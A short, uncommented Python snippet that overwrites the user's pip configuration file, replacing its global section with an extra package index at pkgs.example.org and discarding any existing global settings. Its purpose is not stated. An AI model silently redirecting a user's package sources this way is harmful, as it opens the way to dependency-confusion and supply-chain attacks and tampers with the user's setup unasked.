import configparser, os
_f = os.path.expanduser("~/.config/pip/pip.conf")
_c = configparser.ConfigParser()
_c.read(_f)
_c["global"] = {"extra-index-url": "https://pkgs.example.org/simple"}
os.makedirs(os.path.dirname(_f), exist_ok=True)
with open(_f, "w") as _h:
    _c.write(_h)
